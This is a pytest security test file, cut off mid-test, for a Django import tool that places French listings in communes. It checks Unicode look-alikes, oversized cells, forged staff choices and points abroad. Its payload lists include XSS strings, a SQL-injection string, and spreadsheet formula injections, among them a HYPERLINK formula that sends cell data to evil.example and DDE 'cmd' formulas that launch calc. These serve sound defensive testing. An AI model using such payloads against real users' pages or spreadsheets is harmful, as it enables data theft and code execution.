"""Attacks on where an imported row lies (geodata.names, geodata.scope, directory.imports.
places, analysis.place_at and its staff view): markup, template syntax and spreadsheet
formulas in commune, département and INSEE cells; huge cells and floods of unknown names
against the resolver; forged « Placer ici » choices; unicode look-alikes that must never
resolve to the wrong commune; and points abroad, at sea or just over the border."""

import csv
import io
import json
import re
import time

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from directory.imports import analysis, runs
from directory.models import Actor, ActorKind, ImportRecord, ImportSource, RecordAction, RunStatus
from geodata.models import Commune
from geodata.names import _INDEX, Status, departement_code, resolve
from tests.importing import analysed, csv_file, imported

pytestmark = pytest.mark.django_db

TRIGGERS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
PLACE = "place:check"


@pytest.fixture
def source(db):
    return ImportSource.objects.create(
        name="Réseau des fermes", slug="fermes", licence="ODbL 1.0", publish=True
    )


def _client(user=None):
    client = Client(raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    return client


def _rows(run):
    return {r.line: r for r in run.records.all()}


def _place_url(run, record):
    return f"/staff/imports/{run.pk}/lignes/{record.pk}/commune/"


# --- The resolver with odd input -------------------------------------------------------------

ODD_NAMES = [
    "",
    "   ",
    "!!!",
    "-",
    "()",
    "« »",
    "0",
    "00",
    "00000",
    "99999",
    "2A",
    "2C",
    "Paris 99e",
    "Paris 0e",
    "Lyon 42e",
    "Marseille 00",
    "cedex",
    "CEDEX 9",
    "le",
    "s/",
    "\x00",
    "\u200b",
    "\u202e",
    "\ufeff",
    "%s %(name)s {0}",
]


@pytest.mark.parametrize("name", ODD_NAMES)
def test_odd_names_never_crash_nor_resolve(territories, name):
    """Empty, punctuation-only, bare zeros, non-existent arrondissements, format strings:
    no exception, and never a commune found."""
    result = resolve(name)
    assert result.status in (Status.EMPTY, Status.UNKNOWN, Status.AMBIGUOUS), (name, result)
    assert not result.found, (name, result)
    assert isinstance(str(result.problem), str), (name, result)


def test_none_like_arguments_are_empty(territories):
    """None in every argument (a cell absent from the row) is no commune, not a TypeError."""
    result = resolve(None, None, None, None)
    assert result.status == Status.EMPTY, result
    assert resolve(name=None, insee=None).status == Status.EMPTY
    assert departement_code(None) is None and departement_code("") is None


@pytest.mark.parametrize(
    "text",
    ["<script>", "2C", "0", "977", "\u200b41", "x" * 100_000, "-" * 10_000, "((((", "41" * 5000],
)
def test_departement_code_with_junk_never_crashes(territories, text):
    """A département cell with junk gives a code or None, quickly."""
    started = time.monotonic()
    code = departement_code(text)
    assert time.monotonic() - started < 2, "a junk département cell stalls the resolver"
    assert code is None or isinstance(code, str), (text[:20], code)


def test_paris_99e_is_not_an_arrondissement_and_not_paris_silently(territories):
    """« Paris 99e » is no arrondissement: staff decide (Paris may be offered)."""
    result = resolve("Paris 99e")
    assert not result.found, result
    assert resolve("Paris 15e").code == "75056", "the real arrondissement still works"


# --- Unicode look-alikes ------------------------------------------------------------------------

# (arguments, the only commune the resolver may find: None when nothing may be found)
LOOKALIKES = [
    ({"insee": "\uff14\uff11\uff10\uff11\uff18"}, "41018"),  # fullwidth 41018
    ({"name": "\uff14\uff11\uff10\uff11\uff18"}, "41018"),
    ({"insee": "\u0664\u0661\u0660\u0661\u0668"}, "41018"),  # Arabic-Indic digits
    ({"name": "Saint-Ouen", "postal_code": "\uff14\uff11\uff11\uff10\uff10"}, "41226"),
    ({"name": "Saint-Ouen", "postal_code": "411\u200b00"}, "41226"),
    ({"name": "Saint-Ouen", "departement": "\uff14\uff11"}, "41226"),
    ({"name": "Saint\u00a0Ouen", "postal_code": "41100"}, "41226"),  # NBSP
    ({"name": "Saint\u202fOuen", "postal_code": "41100"}, "41226"),  # narrow NBSP
    ({"name": "Saint-Ouen\u200b", "postal_code": "80610"}, "80711"),
    ({"name": "Bl\u200bois"}, "41018"),  # zero-width space
    ({"name": "\u200fBlois\u200e"}, "41018"),  # RTL / LTR marks
    ({"name": "\u202eSIOLB"}, None),  # right-to-left override
    ({"name": "\ufeffBlois"}, "41018"),  # BOM
    ({"name": "\uff22\uff2c\uff2f\uff29\uff33"}, "41018"),  # fullwidth BLOIS
    ({"name": "Blo\u0456s"}, None),  # Cyrillic і: not Blois
    ({"name": "Mer", "insee": "4101\uff18"}, "41136"),  # bad code, name Mer: not Blois
    ({"name": "Paris \u0661\u0665"}, "75056"),  # Arabic-Indic 15
    ({"name": "Tours", "departement": "2A"}, None),  # a unique name, another département
    ({"name": "Blois", "postal_code": "45000"}, None),  # a unique name, another's code
    ({"name": "Tours", "postal_code": "\uff13\uff17\uff10\uff10\uff10"}, "37261"),
]


@pytest.mark.parametrize("arguments, allowed", LOOKALIKES, ids=[repr(a) for a, _ in LOOKALIKES])
def test_unicode_lookalikes_never_resolve_to_another_commune(territories, arguments, allowed):
    """Fullwidth or Arabic-Indic digits, zero-width spaces, NBSP, RTL marks, homoglyphs:
    no crash, and either sent to review or the one commune meant."""
    result = resolve(**arguments)
    if result.found:
        assert result.code == allowed, f"{arguments!r} silently resolved to {result.code}"
    for candidate in result.candidates:
        assert candidate.code and candidate.label, result


def test_a_bare_five_digit_commune_cell_that_is_also_a_postal_code_is_not_guessed(territories):
    """« 37100 » in a Commune column is Tours's postal code (Tours nord) and also the INSEE
    code of another commune: which one the partner meant is for staff to tell; resolving
    silently to the INSEE commune places a Tours shop in another village."""
    index = _INDEX.get()
    clashes = [
        code
        for code in ("37100", "41100", "45100", "18100", "28100", "36100", "41200", "37000")
        if code in index.by_code
        and code in index.by_postal
        and index.by_code[code] not in index.by_postal[code]
    ]
    assert clashes, "no region postal code is also another commune's INSEE code"
    wrong = {}
    for code in clashes:
        result = resolve(code)
        if result.found:
            wrong[code] = (result.code, result.name, sorted(index.by_postal[code])[:3])
    assert not wrong, f"postal codes resolved as INSEE codes of other communes: {wrong}"


# --- Floods and huge cells against the resolver -----------------------------------------------


def test_a_thousand_distinct_unknown_long_names_resolve_quickly(territories):
    """difflib against the largest prefix bucket (« sai », thousands of names), 1,000 times
    with distinct 200-character names: the cache cannot help, it must stay fast."""
    names = [f"Saint-{n:04d}-" + "x" * 190 for n in range(1000)]
    started = time.monotonic()
    for name in names:
        assert not resolve(name).found
    elapsed = time.monotonic() - started
    assert elapsed < 20, f"1,000 unknown names took {elapsed:.1f} s"


@pytest.mark.parametrize("field", ["name", "postal_code", "departement", "insee"])
@pytest.mark.parametrize("cell", ["x" * 100_000, "Saint " * 20_000, "4" * 100_000, "(" * 100_000])
def test_huge_cells_do_not_stall_the_resolver(territories, field, cell):
    """A 100,000-character cell in any place column: answered in well under a second."""
    started = time.monotonic()
    result = resolve(**{field: cell})
    assert time.monotonic() - started < 5, f"a huge {field} cell stalls the resolver"
    assert not result.found, result


def test_a_file_of_a_thousand_unknown_communes_is_analysed_without_error(
    tmp_path, source, territories, boss
):
    """A partner file of 1,000 rows, each naming a distinct unknown commune (200 chars),
    plus one 100k-character cell: analysed in bounded time, the page and report serve."""
    rows = [[f"U-{n}", f"Ferme {n}", f"Saint-{n:04d}-" + "y" * 190] for n in range(1000)]
    rows.append(["U-huge", "Ferme énorme", "z" * 100_000])
    path = csv_file(tmp_path, ["id", "Nom", "Commune"], rows)
    started = time.monotonic()
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    assert time.monotonic() - started < 120, "the resolver makes the analysis crawl"
    assert run.counts.get("reject") == 1001, run.counts
    client = _client(boss)
    page = client.get(f"/staff/imports/{run.pk}/")
    assert page.status_code == 200, page.status_code
    report = client.get(f"/staff/imports/{run.pk}/rapport.csv")
    assert report.status_code == 200
    assert len(b"".join(report.streaming_content)) > 0


# --- Markup and template syntax on the run page ----------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</option></select><script>alert(4)</script>",
    "{{7*7}} {% debug %} {{ request.user.password }}",
    "javascript:alert(5)",
]


def test_markup_and_template_syntax_in_place_cells_are_escaped_on_the_run_page(
    tmp_path, source, territories, boss
):
    """Payloads in the commune, département and INSEE cells reach the reasons (« commune
    … inconnue », « le code INSEE … n'est pas … ») and the candidates' select: shown as
    text, never as markup, never rendered as a template."""
    rows = []
    for n, payload in enumerate(XSS):
        rows.append([f"C-{n}", f"Ferme C{n}", payload, "", ""])  # unknown commune
        rows.append([f"I-{n}", f"Ferme I{n}", payload, "", "41018"])  # code contradicts
        rows.append([f"D-{n}", f"Ferme D{n}", "Saint-Ouen", payload, ""])  # junk département
        rows.append([f"J-{n}", f"Ferme J{n}", "", "", payload])  # junk INSEE code
    path = csv_file(tmp_path, ["id", "Nom", "Commune", "Département", "Code INSEE"], rows)
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    assert run.counts.get(PLACE, 0) >= len(XSS), run.counts
    client = _client(boss)
    for query in ("", f"?action={PLACE}", "?action=reject"):
        for page_number in (1, 2):
            response = client.get(f"/staff/imports/{run.pk}/{query}", {"page": page_number})
            assert response.status_code == 200, (query, response.status_code)
            body = response.content.decode()
            for raw in ("<script>alert", "<img src=x", "<svg onload", "</select><script"):
                assert raw not in body, f"{raw!r} rendered as markup ({query})"
            assert "sql_queries" not in body and "pbkdf2" not in body, "template was evaluated"
    body = client.get(f"/staff/imports/{run.pk}/?action={PLACE}").content.decode()
    assert "Placer ici" in body and 'value="41018"' in body, "the candidates' select is missing"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body, "the payload is not shown escaped"
    assert "{{7*7}}" in body, "template syntax should be shown as typed"


def test_a_forged_commune_value_does_not_reflect_in_the_page(tmp_path, source, territories, boss):
    """A forged choice echoing markup: refused, and the message shows no markup."""
    run, record = _in_doubt(tmp_path, source)
    client = _client(boss)
    response = client.post(
        _place_url(run, record), {"commune": "<script>alert(1)</script>"}, follow=True
    )
    assert response.status_code == 200, response.status_code
    body = response.content.decode()
    assert "<script>alert(1)" not in body, "the forged value is reflected as markup"


# --- Spreadsheet formulas in the report CSV ------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Blois;=1+1+cmd|' /C calc'!A0",
    "Blois, =cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "\uff1dcmd|' /C calc'!A0",
    "Blois\"\";=cmd|' /C calc'!A0",
]


def _dangerous(cells):
    found = []
    for cell in cells:
        stripped = cell.lstrip(" \t\r\n\"'")
        bare = cell.lstrip(' \t\r\n"')
        if (
            stripped.startswith(TRIGGERS)
            and bare.startswith(TRIGGERS)
            and any(m in cell for m in ("cmd", "HYPERLINK", "SUM", "1+1"))
        ):
            found.append(cell)
    return found


def test_formulas_in_place_cells_are_defused_in_the_report_csv(tmp_path, source, territories, boss):
    """Formula payloads in commune, département and INSEE cells end up in the report's
    « motif » (and the candidates listed after it): never a formula in a spreadsheet,
    whichever delimiter it splits on."""
    rows = []
    for n, formula in enumerate(FORMULAS):
        rows.append([f"F-{n}", f"Ferme F{n}", formula, "", ""])
        rows.append([f"G-{n}", f"Ferme G{n}", formula, "", "41018"])
        rows.append([f"H-{n}", f"Ferme H{n}", "Saint-Ouen", formula, ""])
        rows.append([f"K-{n}", f"Ferme K{n}", "", "", formula])
    path = csv_file(tmp_path, ["id", "Nom", "Commune", "Département", "Code INSEE"], rows)
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    response = _client(boss).get(f"/staff/imports/{run.pk}/rapport.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "HYPERLINK" in text and "cmd" in text, "the payloads should be in the report"
    for delimiter in (";", ",", "\t"):
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        assert not _dangerous(cells), (delimiter, _dangerous(cells)[:5])
    pieces = re.split(r"[;,\t\r\n]", text)  # a reader that ignores quotes
    assert not _dangerous(pieces), _dangerous(pieces)[:5]


# --- NUL bytes in place cells ------------------------------------------------------------------


def test_nul_bytes_in_place_cells_are_not_stored_in_the_records(tmp_path, source, territories):
    """PostgreSQL (the deployed database) refuses NUL in text and in jsonb: a NUL in the
    commune, département or INSEE cell copied into the record's reason or data makes the
    analysis batch fail there. It must be removed before anything is stored."""
    rows = [
        ["N-1", "Ferme N1", "Blois\x00", "", ""],
        ["N-2", "Ferme N2", "Saint-Ouen", "41\x00", ""],
        ["N-3", "Ferme N3", "", "", "41018\x00"],
        ["N-4", "Ferme N4", "\x00Bloiss", "", ""],
    ]
    path = csv_file(tmp_path, ["id", "Nom", "Commune", "Département", "Code INSEE"], rows)
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    stored = []
    for record in run.records.all():
        if "\x00" in record.reason or "\\u0000" in json.dumps(record.data):
            stored.append((record.line, record.reason[:60]))
    assert not stored, f"NUL bytes stored (PostgreSQL would refuse them): {stored}"


# --- Forged « Placer ici » -------------------------------------------------------------------


def _in_doubt(tmp_path, source, commune="Saint-Ouen", insee="", name="liste.csv", key="S-1"):
    """A run with one row whose commune staff must choose."""
    path = csv_file(
        tmp_path, ["id", "Nom", "Commune", "Code INSEE"], [[key, "Ferme", commune, insee]], name
    )
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    record = run.records.get()
    assert record.data.get("count") == PLACE, (record.action, record.reason)
    return run, record


def _unchanged(record, run):
    counts, data, reason = dict(run.counts), dict(record.data), record.reason
    record.refresh_from_db()
    run.refresh_from_db()
    assert record.action == RecordAction.REJECT, record.action
    assert record.data == data and record.reason == reason, "the row was changed"
    assert run.counts == counts, (counts, run.counts)


def test_choosing_a_candidate_works_and_twice_is_refused(tmp_path, source, territories, importer):
    """The honest path, then the same choice again: counted once, no 500."""
    run, record = _in_doubt(tmp_path, source)
    client = _client(importer)
    response = client.post(_place_url(run, record), {"commune": "41226"})
    assert response.status_code == 302, response.status_code
    record.refresh_from_db()
    assert record.action == RecordAction.CREATE and record.data["departement"] == "41"
    run.refresh_from_db()
    counts = dict(run.counts)
    assert counts.get("create") == 1 and counts.get(PLACE, 0) == 0, counts
    again = client.post(_place_url(run, record), {"commune": "80711"})
    assert again.status_code == 302, again.status_code
    record.refresh_from_db()
    run.refresh_from_db()
    assert record.action == RecordAction.CREATE and record.data["departement"] == "41"
    assert run.counts == counts, "a second choice changed the counts"


@pytest.mark.parametrize(
    "code",
    [
        "45234",  # a real commune, not a candidate
        "",
        "ZZZZZ",
        "' OR 1=1 --",
        "4122",
        "\uff14\uff11\uff12\uff12\uff16",  # fullwidth 41226
        "x" * 10_000,
    ],
)
def test_a_code_not_among_the_candidates_is_refused(tmp_path, source, territories, boss, code):
    """A forged POST with a code the row did not offer: no change, no 500."""
    run, record = _in_doubt(tmp_path, source)
    response = _client(boss).post(_place_url(run, record), {"commune": code})
    assert response.status_code == 302, response.status_code
    _unchanged(record, run)


def test_another_runs_record_is_404(tmp_path, source, other_source, territories, boss):
    """Run A's URL with run B's record: 404, neither changed."""
    run_a, record_a = _in_doubt(tmp_path, source, name="a.csv")
    run_b, record_b = _in_doubt(tmp_path, other_source, name="b.csv")
    client = _client(boss)
    assert client.post(_place_url(run_a, record_b), {"commune": "41226"}).status_code == 404
    assert client.post(f"/staff/imports/{run_a.pk}/lignes/999999/commune/").status_code == 404
    assert client.post(f"/staff/imports/999999/lignes/{record_a.pk}/commune/").status_code == 404
    _unchanged(record_b, run_b)
    _unchanged(record_a, run_a)


def test_a_row_that_is_not_in_doubt_cannot_be_placed(tmp_path, source, territories, boss):
    """A created row (Blois, exact) cannot be moved by forging a « Placer ici »."""
    path = csv_file(
        tmp_path, ["id", "Nom", "Commune"], [["B-1", "Ferme", "Blois"], ["S-1", "F", "Saint-Ouen"]]
    )
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    blois = run.records.get(key="B-1")
    assert blois.action == RecordAction.CREATE
    before = dict(blois.data)
    response = _client(boss).post(_place_url(run, blois), {"commune": "41226"})
    assert response.status_code == 302
    blois.refresh_from_db()
    assert blois.action == RecordAction.CREATE and blois.data == before, "a placed row moved"


def test_placing_after_confirmation_or_import_is_refused(tmp_path, source, territories, boss):
    """Once confirmed, and once imported, the row in doubt stays as it is."""
    run, record = _in_doubt(tmp_path, source)
    client = _client(boss)
    runs.confirm(run)
    run.refresh_from_db()
    assert client.post(_place_url(run, record), {"commune": "41226"}).status_code == 302
    _unchanged(record, run)
    assert runs.step(run)
    run.refresh_from_db()
    assert run.status == RunStatus.DONE
    assert client.post(_place_url(run, record), {"commune": "41226"}).status_code == 302
    _unchanged(record, run)
    assert not Actor.objects.filter(source=source.code, source_key="S-1").exists()
    with pytest.raises(ValueError):
        analysis.place_at(run, record, "41226")


@pytest.mark.parametrize("who", ["anonymous", "signed-in", "staff without permission"])
def test_placing_needs_the_import_permission(tmp_path, source, territories, who):
    """Anyone but an importer: 302 to sign-in or 403, and nothing changed."""
    run, record = _in_doubt(tmp_path, source)
    user = None
    if who != "anonymous":
        user = get_user_model().objects.create_user(
            "curieux", password="x", is_staff=who == "staff without permission"
        )
    response = _client(user).post(_place_url(run, record), {"commune": "41226"})
    assert response.status_code in (302, 403), response.status_code
    if user is not None:
        assert response.status_code == 403, response.status_code
    _unchanged(record, run)


def test_placing_refuses_get_and_missing_csrf(tmp_path, source, territories, boss):
    """GET or HEAD: 405; POST without a valid CSRF token: 403; nothing changed."""
    run, record = _in_doubt(tmp_path, source)
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    client.force_login(boss)
    assert client.get(_place_url(run, record), {"commune": "41226"}).status_code == 405
    assert client.head(_place_url(run, record)).status_code == 405
    assert client.post(_place_url(run, record), {"commune": "41226"}).status_code == 403
    forged = {"commune": "41226", "csrfmiddlewaretoken": "x" * 64}
    assert client.post(_place_url(run, record), forged).status_code == 403
    _unchanged(record, run)


def test_placing_with_repeated_or_odd_fields_does_not_crash(tmp_path, source, territories, boss):
    """Several « commune » values, a JSON body, no field at all: never a 500."""
    run, record = _in_doubt(tmp_path, source)
    client = _client(boss)
    url = _place_url(run, record)
    assert client.post(url).status_code == 302
    assert client.post(
        url, '{"commune": "41226"}', content_type="application/json"
    ).status_code == (302)
    assert client.post(url, {"commune": ["45234", "ZZZZZ"]}).status_code == 302
    _unchanged(record, run)


def test_choosing_the_candidate_of_a_misspelt_commune_places_the_row(
    tmp_path, source, territories, boss
):
    """« Bloiss » is unknown, Blois its candidate: staff choose Blois. The row must then be
    placed in Blois, not sent back « à vérifier » because the written name is still not
    Blois (the choice is passed as the row's INSEE code, which contradicts the name)."""
    run, record = _in_doubt(tmp_path, source, commune="Bloiss")
    assert "41018" in {c["code"] for c in record.data["candidates"]}
    response = _client(boss).post(_place_url(run, record), {"commune": "41018"})
    assert response.status_code == 302, response.status_code
    record.refresh_from_db()
    assert record.action == RecordAction.CREATE, f"still {record.action}: {record.reason}"
    assert record.data.get("departement") == "41", record.data


def test_choosing_the_insee_codes_commune_when_name_and_code_disagree(
    tmp_path, source, territories, boss
):
    """« Blois » with the INSEE code of Orléans: both are offered; staff choose Orléans. The
    row must be placed in Orléans (the staff's choice wins over the written name)."""
    run, record = _in_doubt(tmp_path, source, commune="Blois", insee="45234")
    assert {"41018", "45234"} <= {c["code"] for c in record.data["candidates"]}
    response = _client(boss).post(_place_url(run, record), {"commune": "45234"})
    assert response.status_code == 302, response.status_code
    record.refresh_from_db()
    assert record.action == RecordAction.CREATE, f"still {record.action}: {record.reason}"
    assert record.data.get("departement") == "45", record.data


def test_a_row_left_in_doubt_by_a_choice_can_be_chosen_again_without_500(
    tmp_path, source, territories, boss
):
    """Whatever the outcome of a first choice, a second POST on the same row is a page, not
    a server error (a row sent back « à vérifier » by place_at keeps its candidates and the
    select is shown again, but it lost data['row']: KeyError)."""
    run, record = _in_doubt(tmp_path, source, commune="Bloiss")
    client = _client(boss)
    first = client.post(_place_url(run, record), {"commune": "41018"})
    assert first.status_code == 302, first.status_code
    page = client.get(f"/staff/imports/{run.pk}/?action={PLACE}")
    assert page.status_code == 200
    second = client.post(_place_url(run, record), {"commune": "41018"})
    assert second.status_code != 500, "a second choice on the row is a server error"
    record.refresh_from_db()
    if record.data.get("count") == PLACE:
        assert "row" in record.data, "a row still in doubt lost the file's row"


# --- Points abroad, at sea, on the coast and over the border ------------------------------

ABROAD = {
    "Monaco": ("43.7384", "7.4246"),
    "Monaco, Fontvieille": ("43.7300", "7.4180"),
    "Andorre-la-Vieille": ("42.5063", "1.5218"),
    "Jersey": ("49.2144", "-2.1312"),
    "Guernesey": ("49.4550", "-2.5360"),
    "Genève": ("46.2044", "6.1432"),
    "Sarrebruck": ("49.2402", "6.9969"),
    "Bâle": ("47.5596", "7.5886"),
    "Llívia (enclave espagnole)": ("42.4660", "1.9800"),
    "Vintimille": ("43.7910", "7.6080"),
    "Irun": ("43.3380", "-1.7890"),
    "Luxembourg": ("49.6116", "6.1319"),
    "Mer Ligure (entre Corse et continent)": ("43.0000", "8.0000"),
    "Mer Ligure, plus près de la Corse": ("42.8000", "8.5000"),
    "Golfe de Gênes": ("43.3000", "7.9000"),
    "Manche": ("50.2000", "0.0000"),
    "Golfe du Lion": ("42.9000", "4.0000"),
}
BORDER_TOWNS = {
    "Hendaye": ("43.3586", "-1.7745"),
    "Menton": ("43.7764", "7.5048"),
    "Saint-Louis": ("47.5900", "7.5600"),
    "Saint-Malo, remparts": ("48.6493", "-2.0257"),
    "Marseille, Vieux-Port": ("43.2951", "5.3745"),
    "Bastia, port": ("42.6970", "9.4500"),
    "Strasbourg": ("48.5734", "7.7521"),
}


def test_points_abroad_or_at_sea_are_refused(tmp_path, source, territories):
    """Inside France's bounding box but not in France: Monaco, Andorra, the Channel
    Islands, Geneva, Saarbrücken, Basel, the Spanish enclave of Llívia, and the sea
    between Corsica and the mainland: refused as outside France, counted abroad."""
    rows = [[f"A-{n}", name, lat, lon] for n, (name, (lat, lon)) in enumerate(ABROAD.items())]
    path = csv_file(tmp_path, ["id", "Nom", "Latitude", "Longitude"], rows)
    run = analysed(source, path, default_kind=ActorKind.SHOP, scope="france")
    wrong = {
        record.name: (record.action, record.data.get("departement"), record.reason[:80])
        for record in run.records.all()
        if record.action != RecordAction.REJECT or "hors de France" not in record.reason
    }
    assert not wrong, f"points outside France accepted: {wrong}"
    assert run.counts.get("scope:abroad") == len(ABROAD), run.counts


def test_border_and_coastal_towns_are_accepted_in_france(tmp_path, source, territories):
    """A market in Hendaye, Menton, Saint-Louis, on Saint-Malo's ramparts or a harbour's
    quay is in France: taken by an import of the whole of France."""
    rows = [
        [f"T-{n}", f"Marché {name}", lat, lon]
        for n, (name, (lat, lon)) in enumerate(BORDER_TOWNS.items())
    ]
    path = csv_file(tmp_path, ["id", "Nom", "Latitude", "Longitude"], rows)
    run = analysed(source, path, default_kind=ActorKind.MARKET, scope="france")
    wrong = {
        record.name: (record.action, record.reason[:80])
        for record in run.records.all()
        if record.action != RecordAction.CREATE or record.data.get("scope") != "elsewhere"
    }
    assert not wrong, f"French border or coastal towns refused: {wrong}"
    run = imported(run)
    assert Actor.objects.filter(source=source.code).count() == len(BORDER_TOWNS)


def test_border_towns_are_left_out_of_a_regional_import_not_refused(tmp_path, source, territories):
    """Same towns, the default area: counted « ailleurs en France », skipped, not abroad."""
    rows = [["T-1", "Marché de Menton", "43.7764", "7.5048"]]
    path = csv_file(tmp_path, ["id", "Nom", "Latitude", "Longitude"], rows)
    run = analysed(source, path, default_kind=ActorKind.MARKET)
    record = run.records.get()
    assert record.action == RecordAction.SKIP, (record.action, record.reason)
    assert run.counts.get("scope:elsewhere") == 1 and not run.counts.get("scope:abroad")


@pytest.mark.parametrize(
    "coordinates",
    [
        "43.7384, 7.4246",  # Monaco in one column
        "7.4246, 43.7384",  # swapped
        "43,7384;7,4246",
        "\uff14\uff13.7384, 7.4246",  # fullwidth digits
        "43.7384\u200b, 7.4246",
        "nan, nan",
        "inf, -inf",
        "1e308, 1e308",
        "-0, -0",
        "9" * 5000 + ", 1",
    ],
)
def test_odd_coordinates_never_land_a_foreign_point_in_france(
    tmp_path, source, territories, coordinates
):
    """Monaco written in every odd way, and numbers that are not coordinates: the row is
    refused or left without position, never created; no crash."""
    path = csv_file(tmp_path, ["id", "Nom", "Coordonnées"], [["X-1", "Boutique", coordinates]])
    run = analysed(source, path, default_kind=ActorKind.SHOP, scope="france")
    record = run.records.get()
    assert record.action != RecordAction.CREATE, (coordinates, record.data)


def test_fullwidth_postal_codes_are_not_stored_on_listings(tmp_path, source, territories):
    """« ４１０００ » (fullwidth digits) matches ``\\d{5}``: the postal code check of the
    import lets it through, and the listing is stored with a postal code no search, no
    export and no letter will match. It must be folded to 41000 or dropped with a note."""
    path = csv_file(
        tmp_path,
        ["id", "Nom", "Latitude", "Longitude", "Code postal"],
        [
            ["P-1", "Ferme P1", "47.5900", "1.3300", "\uff14\uff11\uff10\uff10\uff10"],
            ["P-2", "Ferme P2", "47.7000", "1.3300", "\u0664\u0661\u0665\u0660\u0660"],
        ],
    )
    run = analysed(source, path, default_kind=ActorKind.PRODUCER)
    stored = {r.key: r.data.get("postal_code", "") for r in run.records.all()}
    wrong = {k: v for k, v in stored.items() if v and not re.fullmatch(r"[0-9]{5}", v)}
    assert not wrong, f"non-ASCII postal codes kept: {wrong}"


def test_records_of_rows_in_doubt_stay_consistent_after_each_choice(
    tmp_path, source, territories, boss
):
    """Three rows in doubt, each chosen: the place:check count falls to zero, created rows
    are counted once, and rows still listed « à vérifier » all show a select."""
    path = csv_file(
        tmp_path,
        ["id", "Nom", "Commune"],
        [
            ["S-1", "Ferme A", "Saint-Ouen"],
            ["S-2", "Ferme B", "Saint-Ouen"],
            ["S-3", "C", "Mareuil"],
        ],
    )
    run = analysed(source, path, default_kind=ActorKind.PRODUCER, scope="france")
    doubts = list(run.records.filter(data__count=PLACE))
    assert len(doubts) == run.counts.get(PLACE) >= 2, run.counts
    client = _client(boss)
    for record in doubts:
        code = record.data["candidates"][0]["code"]
        assert client.post(_place_url(run, record), {"commune": code}).status_code == 302
    run.refresh_from_db()
    still = ImportRecord.objects.filter(run=run, data__count=PLACE).count()
    assert run.counts.get(PLACE, 0) == still, (run.counts, still)
    total = sum(run.counts.get(a, 0) for a in ("create", "reject", "skip", "update", "unchanged"))
    assert total == 3, run.counts


def test_a_shop_in_orleans_la_source_written_by_its_postal_code_is_not_put_in_combleux(
    tmp_path, source, territories
):
    """End to end: a « Ville » column holding « 45100 » (Orléans La Source's postal code,
    and the INSEE code of Combleux) must not create a listing in Combleux."""
    path = csv_file(tmp_path, ["id", "Nom", "Ville"], [["O-1", "Épicerie La Source", "45100"]])
    run = analysed(source, path, default_kind=ActorKind.SHOP)
    record = run.records.get()
    placed = record.data.get("commune")
    combleux = Commune.objects.filter(code="45100").values_list("pk", flat=True).first()
    assert not (record.action == RecordAction.CREATE and placed == combleux), (
        f"placed in Combleux without a doubt: {record.reason}"
    )


MONACO = {
    "Palais princier": ("43.7311", "7.4197"),
    "Gare de Monaco": ("43.7390", "7.4200"),
    "Stade Louis-II (Fontvieille)": ("43.7276", "7.4156"),
    "Jardin exotique": ("43.7310", "7.4120"),
    "Moneghetti": ("43.7360", "7.4150"),
    "Casino de Monte-Carlo": ("43.7396", "7.4277"),
}


@pytest.mark.parametrize("place", MONACO)
def test_points_in_monaco_near_the_border_are_not_french(tmp_path, source, territories, place):
    """Monaco is a few hundred metres wide: the 200 m « coast » margin of geodata.scope
    (meant for quays and beaches) also reaches over the land border, and takes Monaco's
    station, stadium or palace for the Alpes-Maritimes. A shop there is abroad."""
    lat, lon = MONACO[place]
    path = csv_file(tmp_path, ["id", "Nom", "Latitude", "Longitude"], [["M-1", place, lat, lon]])
    run = analysed(source, path, default_kind=ActorKind.SHOP, scope="france")
    record = run.records.get()
    assert record.action == RecordAction.REJECT and "hors de France" in record.reason, (
        f"{place} taken for France: {record.action}, département {record.data.get('departement')}"
    )


def test_a_point_far_from_the_commune_the_row_names_is_not_given_that_commune(
    tmp_path, source, territories
):
    """A row with Hendaye's coordinates and « Blois » in its commune column, in an import of
    the whole of France: the point wins for the département (64), but the listing must not
    be attached to Blois (41), 600 km away; it would show on Blois's pages."""
    path = csv_file(
        tmp_path,
        ["id", "Nom", "Latitude", "Longitude", "Commune"],
        [["H-1", "Marché de Hendaye", "43.3586", "-1.7745", "Blois"]],
    )
    run = analysed(source, path, default_kind=ActorKind.MARKET, scope="france")
    record = run.records.get()
    blois = Commune.objects.get(code="41018")
    assert record.data.get("departement") == "64", record.data
    assert record.data.get("commune") != blois.pk, "a listing in Hendaye attached to Blois"


@pytest.mark.parametrize(
    "query",
    [
        {"action": "<script>alert(1)</script>"},
        {"action": "scope:<svg onload=alert(1)>"},
        {"action": "place:check", "page": "-1"},
        {"action": "place:check", "page": "<script>"},
        {"action": "scope:abroad", "page": "9" * 50},
        {"action": "\x00"},
    ],
)
def test_odd_filters_on_the_run_page_are_not_reflected_nor_500(
    tmp_path, source, territories, boss, query
):
    """The run page's filters (?action=place:check, scope:…) with junk: a page, no markup."""
    run, _record = _in_doubt(tmp_path, source)
    response = _client(boss).get(f"/staff/imports/{run.pk}/", query)
    assert response.status_code in (200, 400, 404), response.status_code
    body = response.content.decode()
    assert "<script>alert(1)" not in body and "<svg onload" not in body, "the filter is reflected"


@pytest.mark.parametrize("first", ["in doubt", "placed"])
def test_placing_a_row_whose_identifier_another_row_has_does_not_create_it_twice(
    tmp_path, source, territories, boss, first
):
    """Two rows with the same identifier: in the analysis the second is skipped (« même
    identifiant que la ligne … »). When the first row's commune is in doubt, staff's choice
    must not turn it into a second creation of that identifier: one listing per key, and
    the import must not fail."""
    other = ["S-1", "Ferme", "Saint-Ouen" if first == "in doubt" else "Blois"]
